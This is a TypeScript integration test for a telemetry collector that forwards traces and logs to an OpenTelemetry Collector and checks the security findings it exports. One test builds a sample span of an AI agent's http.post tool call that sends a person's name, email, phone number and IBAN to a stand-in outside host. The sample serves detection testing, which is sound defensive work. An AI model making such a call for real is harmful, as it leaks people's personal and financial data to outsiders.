import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { otlpJsonToProtobuf } from '../../collector/src/decode/json.ts';
import { otlpJson, otlpLogsJson, type Plain, type TestSpan } from '../../collector/src/testing/otlp.ts';
import { cliOf } from '../support/cli.ts';
import { eventually } from '../support/collector-process.ts';
import { testCollector } from '../support/test-collector.ts';
import { Otelcol } from './otelcol/otelcol.ts';
import { lacking } from './support/tools.ts';

// The tee and the destination `otlp` against an OpenTelemetry Collector, compared with what its file exporter wrote.

const skip = lacking('go');
const otelcol = skip === false ? await Otelcol.start() : undefined;

describe('OpenTelemetry Collector', { skip }, () => {
  const url = `http://127.0.0.1:${otelcol?.port}`;
  const collector = testCollector(`spool: { segment_age_max_ms: 50, grace_ms: 0 }
detect: { checkpoint_interval_ms: 1000 }
tee:
  destinations:
    tee: { endpoint: "${url}", contents: as_sent, signals: [traces, logs], batch: { linger_ms: 50 } }
export:
  destinations:
    findings: { type: otlp, url: "${url}/v1/logs", batch: { linger_ms: 20 } }
    in_json: { type: otlp, url: "${url}/v1/logs", encoding: json, batch: { linger_ms: 20 } }
`);
  after(() => otelcol?.remove());

  async function post(path: string, json: object, encoding: 'protobuf' | 'json'): Promise<boolean> {
    const text = Buffer.from(JSON.stringify(json));
    const translated = otlpJsonToProtobuf(text, path.endsWith('logs') ? 'logs' : 'traces');
    assert.ok(translated.status === 'ok');
    const type = encoding === 'json' ? 'application/json' : 'application/x-protobuf';
    const body = encoding === 'json' ? text : translated.bytes;
    return fetch(`${collector.url}${path}`, { method: 'POST', headers: { 'content-type': type }, body }).then(
      ({ status }) => status === 200,
      () => false,
    );
  }

  test('what the tee sends over its kill and ours arrives attribute by attribute', async () => {
    const sent: object[] = [];
    const logs: object[] = [];
    let isOver = false;
    const sending = (async () => {
      for (let number = 0; !isOver; number++) {
        const request = otlpJson([span(), span()], { 'service.name': 'shop', list: ['a', 1, true], empty: '' });
        if (await post('/v1/traces', request, number % 2 === 0 ? 'protobuf' : 'json')) sent.push(request);
        const log = otlpLogsJson([{ body: { id: randomBytes(8).toString('hex'), n: [1, 'x'] }, nanos: 7n }]);
        if (await post('/v1/logs', log, 'protobuf')) logs.push(log);
        await sleep(5);
      }
    })();
    const after = async (requests: number) => {
      const from = sent.length;
      await eventually(`${requests} requests`, async () => sent.length - from >= requests || undefined);
    };
    await after(20);
    await otelcol!.end('SIGKILL');
    await after(20);
    await collector.restart('SIGKILL');
    await after(5);
    await otelcol!.restart();
    await after(20);
    isOver = true;
    await sending;
    const wanted = [...recordsOf(sent, 'traces'), ...recordsOf(logs, 'logs')];
    const there = await eventually('all of it', async () => {
      const found = new Set([
        ...recordsOf(otelcol!.written('traces'), 'traces'),
        ...recordsOf(otelcol!.written('logs'), 'logs'),
      ]);
      return wanted.every((each) => found.has(each)) ? found : undefined;
    });
    // Whatever was written is one of those that were sent, acknowledged or not.
    assert.ok(there.size >= wanted.length);
  });

  test('findings arrive as they are explained, in both encodings', async () => {
    const attack: TestSpan = {
      name: 'execute_tool http.post',
      kind: 3,
      traceId: randomBytes(16).toString('hex'),
      attributes: {
        'gen_ai.operation.name': 'execute_tool',
        'gen_ai.tool.name': 'http.post',
        'gen_ai.tool.call.arguments': JSON.stringify({
          url: 'https://collect.stranger.example/v1',
          body: 'Jane Doe, jane.doe@example.org, +49 170 1234567, IBAN DE89 3704 0044 0532 0130 00',
        }),
      },
    };
    assert.ok(await post('/v1/traces', otlpJson([attack]), 'protobuf'));
    const ids = await eventually('findings in ClickHouse', async () => {
      const query = `SELECT DISTINCT FindingId FROM findings WHERE TraceId = '${attack.traceId}'`;
      const rows = await collector.clickhouse.rows<{ FindingId: string }>(query);
      return rows.length > 0 ? rows.map(({ FindingId }) => FindingId) : undefined;
    });
    const explain = cliOf(collector.home, 'export', 'explain');
    for (const id of ids) {
      const wanted = explained(JSON.parse(explain(id, '--destination', 'in_json').stdout) as object);
      const eventId = attributeOf(JSON.parse(wanted) as Recorded, 'spanwarden.finding.id');
      assert.equal(eventId, id);
      await eventually(`finding ${id} twice`, async () => {
        const found = recordsIn(otelcol!.written('logs'), 'logs').map(({ record }) => explained(record));
        return found.filter((each) => each === wanted).length >= 2 || undefined;
      });
    }
  });
});

/** A span with a value of every kind, none like another. */
function span(): TestSpan {
  const id = (bytes: number) => randomBytes(bytes).toString('hex');
  const attributes: Record<string, Plain> = {
    z: 'last first',
    int: 9_223_372_036_854_775_807n,
    negative: -1,
    double: 0.1,
    flag: false,
    empty: '',
    bytes: randomBytes(5),
    list: ['a', 1, 2.5, true, ['inner']],
    map: { b: 1, a: { c: 'ü\u{1F600}' } },
  };
  return {
    ...{ traceId: id(16), spanId: id(8), parentSpanId: id(8), name: 'any', kind: 2, attributes },
    ...{ startNanos: 1_900_000_000_000_000_001n, endNanos: 1_900_000_000_000_000_002n },
    events: [{ name: 'event', nanos: 5n, attributes: { a: 1, b: 'x' } }],
    links: [{ traceId: id(16), spanId: id(8), attributes: { l: true } }],
    status: { code: 2, message: 'no' },
  };
}

type Json = Record<string, unknown>;
type Recorded = { readonly attributes?: readonly { readonly key: string; readonly value: Json }[] };

/** All spans or log records of requests, each with its resource and scope. */
function recordsIn(requests: readonly object[], signal: 'traces' | 'logs'): { record: object; around: object }[] {
  const [resources, scopes, records] =
    signal === 'traces' ? ['resourceSpans', 'scopeSpans', 'spans'] : ['resourceLogs', 'scopeLogs', 'logRecords'];
  const list = (value: object, key: string) => ((value as Json)[key] ?? []) as Json[];
  return requests.flatMap((request) =>
    list(request, resources!).flatMap((resource) =>
      list(resource, scopes!).flatMap((scope) =>
        list(scope, records!).map((record) => ({
          record,
          around: { resource: resource.resource, scope: scope.scope },
        })),
      ),
    ),
  );
}

function recordsOf(requests: readonly object[], signal: 'traces' | 'logs'): string[] {
  return recordsIn(requests, signal).map((each) => `${signal} ${canonical(each)}`);
}

/** As text, with members in one order, what OTLP takes for absent left out, and numbers of 64 bits as texts; lists keep their order. */
function canonical(value: object): string {
  return JSON.stringify(plain(value));
}

const numbers = /^(intValue|.*UnixNano)$/;

function plain(value: unknown, key = ''): unknown {
  if (Array.isArray(value)) return value.map((each) => plain(each));
  if (typeof value === 'number' && numbers.test(key)) return String(value);
  if (typeof value !== 'object' || value === null) return value;
  const entries = Object.entries(value).flatMap(([name, each]) => {
    const inner = plain(each, name);
    return isAbsent(name, inner) ? [] : [[name, inner] as const];
  });
  return Object.fromEntries(entries.sort(([a], [b]) => (a < b ? -1 : 1)));
}

/** Values that are what a missing field means; of an AnyValue each member counts, as it says the type. */
function isAbsent(name: string, value: unknown): boolean {
  if (/^(string|bool|int|double|bytes)Value$/.test(name)) return false;
  if (Array.isArray(value)) return value.length === 0;
  return value === '' || value === 0 || value === '0' || value === undefined;
}

/** Without when it was taken in, which out of ClickHouse is when it was stored. */
function explained(record: object): string {
  const { observedTimeUnixNano: _, ...rest } = record as Json;
  return canonical(rest);
}

function attributeOf({ attributes = [] }: Recorded, key: string): unknown {
  return attributes.find((each) => each.key === key)?.value.stringValue;
}
